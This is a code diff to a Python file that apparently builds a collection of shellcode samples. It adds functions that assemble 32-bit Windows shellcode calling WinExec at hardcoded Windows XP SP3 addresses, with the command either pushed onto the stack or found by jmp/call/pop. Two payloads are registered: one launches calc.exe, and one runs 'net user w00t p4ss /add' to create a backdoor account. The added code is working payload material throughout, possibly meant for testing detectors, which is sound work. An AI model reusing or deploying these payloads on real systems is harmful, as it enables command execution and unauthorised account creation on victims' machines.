@@ -199,6 +199,44 @@ def pwn_payloads(arch):
     return p
 
 
+def win32_hardcoded(cmd, api):
+    # Payloads written for one service pack call an API by its address
+    # (WinExec in XP SP3's kernel32 here): the command pushed four bytes
+    # at a time, NUL-terminated, then "mov ebx, addr; call ebx".
+    text = cmd + b"\0" * (4 - len(cmd) % 4)
+    pushes = "".join("        push 0x%08x\n" % struct.unpack(
+        "<I", text[i:i + 4])[0] for i in range(len(text) - 4, -1, -4))
+    return nasm("""
+        bits 32
+        xor eax, eax
+%s
+        mov eax, esp
+        push 1
+        push eax
+        mov ebx, 0x%08x
+        call ebx
+    """ % (pushes, api))
+
+
+def win32_hardcoded_getpc(cmd, api):
+    # The same with the command in the payload, found with jmp/call/pop.
+    return nasm("""
+        bits 32
+        jmp short get
+    back:
+        pop eax
+        xor ebx, ebx
+        mov [eax + %d], bl
+        push 5
+        push eax
+        mov edx, 0x%08x
+        call edx
+    get:
+        call back
+        db "%s#"
+    """ % (len(cmd), api, cmd.decode()))
+
+
 def win32_egghunter():
     # The classic Windows egg hunter: NtAccessCheckAndAuditAlarm through
     # int 0x2e tells it whether a page is there, then scasd finds the egg
@@ -252,6 +290,11 @@ def families():
     out.append(("win32_iat_ws2_32", "x86",
                 win32_iat(b"ws2_32.dll", b"WSAStartup")))
     out.append(("win32_egghunter", "x86", win32_egghunter()))
+    out.append(("win32_hardcoded_winexec", "x86",
+                win32_hardcoded(b"calc.exe", 0x7c8623ad)))
+    out.append(("win32_hardcoded_cmd", "x86",
+                win32_hardcoded_getpc(b"cmd /c net user w00t p4ss /add",
+                                      0x77c293c7)))
     out.append(("win64_peb", "x86_64", win64_peb()))
     p64 = pwn_payloads("amd64")
     for k, v in p64.items():
